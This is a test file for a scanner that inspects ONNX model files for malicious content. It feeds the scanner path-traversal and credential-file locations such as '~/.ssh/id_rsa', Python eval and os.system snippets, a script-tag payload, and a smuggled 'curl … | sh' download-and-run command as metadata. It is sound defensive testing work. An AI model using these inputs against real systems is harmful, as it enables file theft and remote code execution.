import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { concat, zip } from '../../../samples/assemble.mjs';
import { EMBEDDED_SEARCHED } from '../../../src/static/context.js';
import { detectFormat } from '../../../src/detect/detect.js';
import { openFile } from '../../../src/model/source.js';
import { analyseStatic, type StaticResult } from '../../../src/static/analyse.js';
import { bytesSource, type ByteSource } from '../../../src/readers/bytes.js';
import { number, part, varint } from '../protobuf/encode.js';
import { analyse } from '../support.js';

const FIXTURES = join(import.meta.dirname, '../../fixtures/onnx');
const fixture = async (name: string) => new Uint8Array(await readFile(join(FIXTURES, name)));

/** A node, as field 1 of a graph. */
const node = (type: string, domain = '', ...more: Uint8Array[]) =>
  part(1, part(3, 'n'), part(4, type), ...(domain === '' ? [] : [part(7, domain)]), ...more);
const text = (name: string, value: string) => part(5, part(1, name), part(4, value));
const inner = (name: string, ...content: Uint8Array[]) => part(5, part(1, name), part(6, ...content));
/** A tensor, as field 5 of a graph, whose data lies in another file. */
const external = (location: string, entries: Readonly<Record<string, string>> = {}, size = 4) =>
  part(
    5,
    number(1, size),
    number(2, 1),
    part(8, 'w'),
    ...Object.entries({ location, ...entries }).map(([key, value]) => part(13, part(1, key), part(2, value))),
    number(14, 1),
  );
const model = (graph: readonly Uint8Array[], ...more: Uint8Array[]) =>
  concat(number(1, 8), part(7, node('Relu'), part(2, 'g'), ...graph), part(8, number(2, 21)), ...more);
const note = (key: string, value: string) => part(14, part(1, key), part(2, value));

describe('models that onnx and skl2onnx save', () => {
  it.each(['pipeline.onnx', 'branches.onnx', 'apart.onnx'])('%s is harmless', async (name) => {
    const { findings, gaps } = await analyse(await fixture(name), name);
    expect(findings).toEqual([]);
    expect(gaps).toEqual([]);
  });

  it('with data beside them are compared with it', async () => {
    const source = await openFile(join(FIXTURES, 'apart.onnx'));
    const { findings, gaps } = await analyseStatic(source, { format: 'onnx' }, { name: 'apart.onnx' });
    await source.close();
    expect([findings, gaps]).toEqual([[], []]);
  });
});

describe('an operator', () => {
  const script = node('PyOp', 'pyopadd_2', text('module', 'evil'), text('class_name', 'Evil'), text('compute', 'run'));
  const cases: [string, Uint8Array][] = [
    ['in the graph', model([script])],
    ['in a branch of an If', model([node('If', '', inner('then_branch', script))])],
    [
      'in the body of a Loop inside a Scan',
      model([node('Scan', '', inner('body', node('Loop', '', inner('body', script))))]),
    ],
    ['in a function', model([], part(25, part(1, 'f'), part(10, 'local'), part(7, script.subarray(2))))],
    ['in the graph of training', model([], part(20, part(2, script)))],
    ['in an archive', zip([{ name: 'a/model.onnx', data: Buffer.from(model([script])), method: 8 }])],
    ['behind fields that are not known', concat(part(999, 'x'.repeat(9000)), model([script]))],
    ['with the fields of the model in another order', concat(part(7, script, part(2, 'g')), number(1, 8))],
  ];
  it.each(cases)('that calls Python is found %s', async (_, bytes) => {
    const { findings } = await analyse(bytes);
    const found = findings.find(({ rule }) => rule === 'STATIC-ONNX-PYTHON');
    expect(found?.severity).toBe('high');
    expect(found?.explanation).toContain('evil Evil run');
  });

  it('of a domain that is not known is reported, of one that the model defines it is not', async () => {
    const own = part(25, part(1, 'Twice'), part(10, 'mine'), part(7, part(4, 'Add')));
    expect((await analyse(model([node('Twice', 'mine')], own))).findings).toEqual([]);
    const { findings } = await analyse(model([node('Other', 'mine'), node('Twice', 'mine')], own));
    expect(findings).toMatchObject([{ rule: 'STATIC-ONNX-CUSTOM-DOMAIN', severity: 'low', count: 1 }]);
    expect(findings[0]?.explanation).toContain('mine.Other');
  });

  it('of ONNX Runtime is known', async () => {
    expect(
      (await analyse(model([node('FusedMatMul', 'com.microsoft'), node('Scaler', 'ai.onnx.ml')]))).findings,
    ).toEqual([]);
  });

  it('that has two domains is judged by both', async () => {
    const bytes = model([part(1, part(4, 'Evil'), part(7, 'evil.domain'), part(7, 'ai.onnx'))]);
    expect((await analyse(bytes)).rules).toEqual(['STATIC-ONNX-CUSTOM-DOMAIN']);
  });

  it('that names a native library is found, whichever of its nodes names it', async () => {
    const plain = node('Gemm', '', text('name', 'a'));
    for (const path of ['../../plugin.so', '/tmp/libx.so.1', 'kernels.dll']) {
      const bytes = model([plain, plain, node('Gemm', '', text('plugin', path))]);
      expect((await analyse(bytes)).rules, path).toEqual(['STATIC-ONNX-LIBRARY']);
    }
    expect((await analyse(model([node('Gemm', '', text('note', 'see a.so and b'))]))).rules).toEqual([]);
  });

  it('that brings a compiled program from another file is told, and its path judged', async () => {
    const mode = part(5, part(1, 'embed_mode'), number(3, 0));
    const bytes = model([node('EPContext', 'com.microsoft', text('ep_cache_context', '../../x.so'), mode)]);
    expect((await analyse(bytes)).rules.toSorted()).toEqual(['STATIC-ONNX-EXTERNAL-PATH', 'STATIC-ONNX-NATIVE']);
  });
});

describe('data in another file', () => {
  it.each([
    '../../etc/passwd',
    '/etc/passwd',
    'C:\\Users\\x',
    'a\\..\\..\\b',
    'weights/../../../x',
    '%2e%2e/x',
    'file:///etc/passwd',
    '~/.ssh/id_rsa',
    'x\0.bin',
  ])('%s is no path that an exporter writes', async (location) => {
    const { findings } = await analyse(model([external(location)]));
    expect(findings).toMatchObject([{ rule: 'STATIC-ONNX-EXTERNAL-PATH', severity: 'high' }]);
  });

  it('is found in a tensor of an attribute, of a sparse tensor and of a branch', async () => {
    const tensor = external('/x').subarray(2);
    for (const bytes of [
      model([node('Constant', '', part(5, part(1, 'value'), part(5, tensor)))]),
      model([part(15, part(1, tensor))]),
      model([node('If', '', inner('else_branch', external('/x')))]),
    ])
      expect((await analyse(bytes)).rules).toEqual(['STATIC-ONNX-EXTERNAL-PATH']);
  });

  it('is judged by every location that the tensor has', async () => {
    const tensor = part(
      5,
      part(8, 'w'),
      part(13, part(1, 'location'), part(2, '/x')),
      part(13, part(1, 'location'), part(2, 'x')),
    );
    expect((await analyse(model([tensor]))).rules).toEqual(['STATIC-ONNX-EXTERNAL-PATH']);
  });

  it.each([
    ['an offset that is no number', { offset: '-16' }],
    ['a length that is no number', { length: '1e3' }],
    ['a length over 2^64', { length: '99999999999999999999' }],
    ['less than the shape needs', { length: '8' }],
  ])('with %s is told', async (_, entries) => {
    expect((await analyse(model([external('w.bin', entries)]))).rules).toEqual(['STATIC-ONNX-EXTERNAL-BOUNDS']);
  });

  describe('beside the model', () => {
    let folder: string;
    beforeAll(async () => {
      folder = await mkdtemp(join(tmpdir(), 'dynscan-onnx-'));
      await mkdir(join(folder, 'data'));
      await writeFile(join(folder, 'data/w.bin'), Buffer.alloc(16));
      await symlink('/etc/hostname', join(folder, 'link.bin'));
      await symlink('data/w.bin', join(folder, 'near.bin'));
    });
    afterAll(() => rm(folder, { recursive: true, force: true }));

    async function scan(bytes: Uint8Array): Promise<StaticResult> {
      await writeFile(join(folder, 'm.onnx'), bytes);
      const source = await openFile(join(folder, 'm.onnx'));
      const result = await analyseStatic(source, { format: 'onnx' }, { name: 'm.onnx' });
      await source.close();
      return result;
    }

    it('is harmless where it fits', async () => {
      expect(
        (await scan(model([external('data/w.bin', { offset: '0', length: '16' }), external('near.bin')]))).findings,
      ).toEqual([]);
    });
    it('has to hold what the model says', async () => {
      const { findings } = await scan(model([external('data/w.bin', { offset: '4', length: '16' })]));
      expect(findings).toMatchObject([{ rule: 'STATIC-ONNX-EXTERNAL-BOUNDS' }]);
      expect(findings[0]?.explanation).toContain('it ends at byte 20 of a file of 16');
    });
    it('may not be a link that leads out of the folder', async () => {
      const { findings } = await scan(model([external('link.bin')]));
      expect(findings).toMatchObject([{ rule: 'STATIC-ONNX-EXTERNAL-PATH' }]);
    });
  });
});

describe('a tensor', () => {
  const tensor = (...content: Uint8Array[]) => part(5, part(8, 't'), ...content);
  it.each([
    ['of fewer bytes than its shape', tensor(number(1, 100), number(2, 1), part(9, Buffer.alloc(4)))],
    ['of an impossible shape', tensor(number(1, -4n), number(2, 1), part(9, Buffer.alloc(4)))],
    [
      'of a shape that overflows',
      tensor(part(1, varint(2n ** 62n), varint(2n ** 62n)), number(2, 1), part(9, Buffer.alloc(4))),
    ],
  ])('%s is told', async (_, bytes) => {
    expect((await analyse(model([bytes]))).rules).toEqual(['STATIC-ONNX-TENSOR-SIZE']);
  });
  it('of four-bit numbers takes half a byte for each', async () => {
    expect((await analyse(model([tensor(number(1, 3), number(2, 22), part(9, Buffer.alloc(2)))]))).findings).toEqual(
      [],
    );
  });

  it('of four gigabytes is stepped over', async () => {
    const size = 4 * 2 ** 30;
    const head = concat(number(1, 2 ** 30), number(2, 1), varint(9 * 8 + 2), varint(size));
    const before = concat(node('Relu'), varint(5 * 8 + 2), varint(head.length + size), head);
    const after = concat(external('/etc/passwd'), part(2, 'g'));
    const start = concat(number(1, 8), varint(7 * 8 + 2), varint(before.length + size + after.length), before);
    let read = 0;
    const source: ByteSource = {
      size: start.length + size + after.length,
      read(offset, length) {
        const bytes = new Uint8Array(Math.max(0, Math.min(length, this.size - offset)));
        read += bytes.length;
        for (const [piece, at] of [
          [start, 0],
          [after, start.length + size],
        ] as const) {
          for (
            let index = Math.max(0, at - offset);
            index < Math.min(bytes.length, at + piece.length - offset);
            index += 1
          )
            bytes[index] = piece[offset + index - at] ?? 0;
        }
        return Promise.resolve(bytes);
      },
    };
    const { findings, gaps } = await analyseStatic(source, { format: 'onnx' });
    expect(findings.map(({ rule }) => rule)).toEqual(['STATIC-ONNX-EXTERNAL-PATH']);
    expect(gaps).toEqual([]);
    expect(read).toBeLessThan(EMBEDDED_SEARCHED + 1_000_000);
  });
});

describe('a note', () => {
  it.each([
    "__import__('os').system('id')",
    "eval('1')",
    'x; curl http://192.0.2.1/a | sh',
    '<script>alert(1)</script>',
  ])('that is a program is told: %s', async (code) => {
    const { findings } = await analyse(model([], note('names', code)));
    expect(findings).toMatchObject([{ rule: 'STATIC-ONNX-METADATA-CODE', severity: 'medium' }]);
  });
  it('that tells where an operator came from is no more than information', async () => {
    const trace =
      'File "/home/x/export.py", line 7, in main\n    subprocess.run(["echo"])\nFile "m.py", line 2, in forward';
    const { findings } = await analyse(model([], note('pkg.torch.onnx.stack_trace', trace)));
    expect(findings).toMatchObject([{ rule: 'STATIC-ONNX-METADATA-CODE', severity: 'info' }]);
  });
  it.each([
    "{0: 'person', 1: 'evaluation'}",
    'see https://example.com/docs/eval (in the wild)',
    'system (os) 1.0',
    '/data/coco.yaml',
  ])('for people is not: %s', async (words) =>
    expect((await analyse(model([], note('description', words)))).findings).toEqual([]),
  );
});

describe('an array in a file of its own', () => {
  const array = (...more: Uint8Array[]) => concat(number(1, 2), number(1, 3), number(2, 1), part(8, 'input'), ...more);
  const data = part(9, Buffer.alloc(24));

  it('is recognised by its fields and is harmless', async () => {
    for (const bytes of [array(data), concat(part(1, Buffer.from([2, 3])), number(2, 1), part(4, Buffer.alloc(24)))]) {
      expect((await detectFormat(bytesSource(bytes))).format).toBe('onnx-tensor');
      const { findings, gaps } = await analyse(bytes, 'input_0.pb');
      expect({ findings, gaps }).toEqual({ findings: [], gaps: [] });
    }
  });

  it.each([
    ['that is cut off', array(data).subarray(0, -1)],
    ['with a field that arrays have not', array(data, part(3, 'x'))],
    ['without a kind', concat(number(1, 2), part(9, Buffer.alloc(2)))],
  ])('%s is none', async (_, bytes) => {
    expect((await detectFormat(bytesSource(bytes))).format).toBe('unknown');
  });

  it('whose data is of another size, or lies elsewhere, is found', async () => {
    expect((await analyse(array(part(9, Buffer.alloc(8))), 'input_0.pb')).rules).toEqual(['STATIC-ONNX-TENSOR-SIZE']);
    const elsewhere = part(13, part(1, 'location'), part(2, '../../etc/passwd'));
    expect((await analyse(array(elsewhere, number(14, 1)), 'x.pb')).rules).toEqual(['STATIC-ONNX-EXTERNAL-PATH']);
  });

  it('that is a graph of TensorFlow as well is read as that', async () => {
    const graph = part(1, part(1, 'n'), part(2, 'WriteFile'));
    expect((await analyse(concat(graph, number(2, 1)), 'x.pb')).rules).toContain('STATIC-TF-WRITE');
  });
});

describe('a hostile model', () => {
  it('that nests its graphs too deep is not seen whole', async () => {
    let deep = node('Relu');
    for (let depth = 0; depth < 200; depth += 1) deep = node('If', '', inner('then_branch', deep));
    expect((await analyse(model([deep]))).gaps.join()).toContain('nested more than 100 deep');
  });

  it('never makes it throw, whatever is changed in it', async () => {
    const bytes = await fixture('branches.onnx');
    for (let at = 0; at < bytes.length; at += 1) {
      const broken = bytes.slice();
      broken[at] = (at * 59) & 0xff;
      await analyse(broken);
    }
  });
});
